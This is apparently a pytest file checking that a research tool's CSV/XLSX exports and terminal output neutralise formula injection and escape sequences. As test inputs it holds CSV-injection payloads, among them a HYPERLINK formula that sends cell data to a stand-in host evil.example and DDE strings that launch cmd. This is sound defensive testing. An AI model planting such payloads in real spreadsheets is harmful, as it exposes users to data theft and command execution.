"""Escape for the medium: spreadsheet formulas never live in exported tables (OWASP CSV
injection), and the terminal never receives a raw escape sequence."""
from __future__ import annotations

import io
import zipfile

import openpyxl
import pandas as pd
import pytest

from hpresearch.cli import _TerminalSafe, main
from hpresearch.render import export
from hpresearch.textsafe import csv_cell, find_control, for_stream, for_terminal

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_prefixes_formula_like_text(payload):
    frame = pd.DataFrame({"text": [payload], "value": [-1.5]})
    back = pd.read_csv(io.BytesIO(export.csv_bytes(frame)), encoding="utf-8-sig")
    cell = back.loc[0, "text"]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert cell.startswith(("'", "\\x09", "\\x0d")), cell
    assert back.loc[0, "value"] == -1.5  # numbers are numbers, negative ones untouched


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_stores_formula_like_text_as_text(payload):
    frame = pd.DataFrame({payload: [payload], "value": [-1.5]})
    data = export.xlsx_bytes({"t": frame}, {"title": payload, "nested": {"x": payload}})
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            xml = z.read(name).decode("utf-8", "replace")
            assert "<f>" not in xml and "<f " not in xml, name
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type in ("s", "n"), (ws.title, c.coordinate, c.data_type)
    assert wb["t"]["A2"].value.lstrip("\r\n\t") == payload.lstrip("\r\t")


def test_xlsx_with_control_characters_does_not_break():
    frame = pd.DataFrame({"text": ["bell\x07", "esc\x1b[31m", "nul\x00"]})
    data = export.xlsx_bytes({"t": frame})
    values = [c.value for c in openpyxl.load_workbook(io.BytesIO(data))["t"]["A"]][1:]
    assert values == ["bell\\x07", "esc\\x1b[31m", "nul\\x00"]


def test_csv_escapes_control_characters():
    text = export.csv_bytes(pd.DataFrame({"t": ["a\x1b[2Jb"]})).decode("utf-8-sig")
    assert "\x1b" not in text and "\\x1b[2J" in text


def test_text_helpers():
    assert csv_cell("=1") == "'=1" and csv_cell("ok") == "ok" and csv_cell(-1) == -1
    assert find_control("a\x1bb") == "\x1b" and find_control("ok") is None
    assert find_control("a\nb") == "\n" and find_control("a\nb", allow_newlines=True) is None
    assert for_terminal("x\x1b[31m\n") == "x\\x1b[31m\\x0a"
    assert for_stream("a\x1b]0;t\x07\n\tb\r") == "a\\x1b]0;t\\x07\n\tb\r"
    assert for_stream("\u202eabc") == "\\u202eabc"


def test_terminal_safe_stream_escapes_everything_written():
    buf = io.StringIO()
    stream = _TerminalSafe(buf)
    print("title \x1b[2J\x07 done", file=stream)
    stream.writelines(["\x1b[31m", "x\n"])
    assert buf.getvalue() == "title \\x1b[2J\\x07 done\n\\x1b[31mx\n"


def test_cli_argument_echo_is_escaped(capsys):
    with pytest.raises(SystemExit) as exc:  # argparse's own choices
        main(["project", "trend", "--format", "\x1b[2Jevil"])
    assert exc.value.code == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and err.count("\n") == 1
    assert main(["project", "trend", "--boundary", "\x1b[2Jevil"]) == 2  # an argspec choice
    err = capsys.readouterr().err
    assert "\x1b" not in err and err.count("\n") == 1 and err.startswith("error: --boundary")


def test_cli_error_with_escape_in_scenario_name(capsys):
    assert main(["project", "\x1b]0;owned\x07trend"]) == 2
    err = capsys.readouterr().err
    assert "\x1b" not in err and "\x07" not in err and err.count("\n") == 1


def test_cli_csv_output_neutralises_formulas_from_data(capsys, tmp_path):
    """`data sources --format csv` is often redirected into a .csv file: a data row whose
    text starts with '=' must not become a formula there either."""
    import csv
    import shutil
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    data = tmp_path / "data"
    shutil.copytree(root / "data", data)
    f = data / "observations" / "grdp.csv"
    rows = list(csv.reader(io.StringIO(f.read_text(encoding="utf-8"), newline="")))
    col, ind = rows[0].index("quote"), rows[0].index("indicator")
    n = next(i for i, r in enumerate(rows) if i and r[ind] == "grdp_current")
    rows[n][col] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows[n][rows[0].index("quote_kind")] = "sentence"
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n").writerows(rows)
    f.write_text(buf.getvalue(), encoding="utf-8")
    assert main(["data", "sources", "grdp_current", "--format", "csv", "--data-dir",
                 str(data)]) == 0
    out = capsys.readouterr().out
    back = pd.read_csv(io.StringIO(out))
    quotes = back["quote"].dropna().astype(str)
    assert any(q.startswith("'=HYPERLINK") for q in quotes)
    assert not any(q.startswith("=") for q in quotes)
